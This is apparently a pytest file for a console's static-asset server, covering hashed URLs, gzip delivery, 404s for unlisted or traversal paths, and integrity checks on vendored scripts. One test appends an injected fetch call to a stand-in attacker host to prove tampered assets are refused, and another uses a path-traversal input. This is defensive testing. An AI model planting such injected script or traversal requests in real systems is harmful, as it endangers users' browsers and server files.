"""Style sheet and scripts under addresses that hold their digest; what is said when the build did not bring them."""

import asyncio
import shutil
from pathlib import Path

import pytest
from fakes.console import bench

import handrail.console
from handrail.console.page_files import routes
from handrail.console.static_files import StaticFiles
from handrail.terms.errors import Code, HandrailError

STATIC = Path(handrail.console.__file__).parent / "static"


def test_an_address_changes_with_the_content_and_is_kept_for_good(tmp_path: Path) -> None:
    copied = shutil.copytree(STATIC, tmp_path / "static")
    before = StaticFiles(copied)
    (copied / "app.js").write_text("changed")
    after = StaticFiles(copied)
    assert before.url("app.js") != after.url("app.js")
    assert before.url("htmx.min.js") == after.url("htmx.min.js")


def test_a_file_is_served_packed_where_the_browser_takes_it() -> None:
    made = bench(routes())
    path = StaticFiles().url("console.css")
    plain = asyncio.run(made.ask("GET", path))
    packed = asyncio.run(made.ask("GET", path, headers={"accept-encoding": "gzip"}))
    assert (plain.status, packed.headers["content-encoding"]) == (200, "gzip")
    assert "immutable" in plain.headers["cache-control"]
    assert len(packed.body) < len(plain.body) / 2


@pytest.mark.parametrize("path", ["/static/../routes.py", "/static/app.js", "/static/", "/static/vendor/manifest.json"])
def test_nothing_else_is_served(path: str) -> None:
    assert asyncio.run(bench(routes()).ask("GET", path)).status == 404


@pytest.mark.promise("CON-9")
def test_missing_assets_are_told_with_the_command(tmp_path: Path) -> None:
    copied = shutil.copytree(STATIC, tmp_path / "static")
    (copied / "vendor" / "htmx.min.js").unlink()
    with pytest.raises(HandrailError, match="make setup") as missing:
        StaticFiles(copied)
    assert missing.value.code is Code.HOME_INVALID


@pytest.mark.promise("CON-9")
def test_an_asset_that_is_not_what_the_build_brought_is_not_served(tmp_path: Path) -> None:
    copied = shutil.copytree(STATIC, tmp_path / "static")
    with (copied / "vendor" / "htmx.min.js").open("a") as file:
        file.write(";fetch('https://evil.example')")
    with pytest.raises(HandrailError, match="reinstall handrail"):
        StaticFiles(copied)


def test_what_a_page_loads_is_small_without_its_font() -> None:
    made = StaticFiles()
    packed = [made[name].packed for name in ("console.css", "htmx.min.js", "hx-csp.min.js", "app.js")]
    assert sum(len(one) for one in packed if one) < 60_000
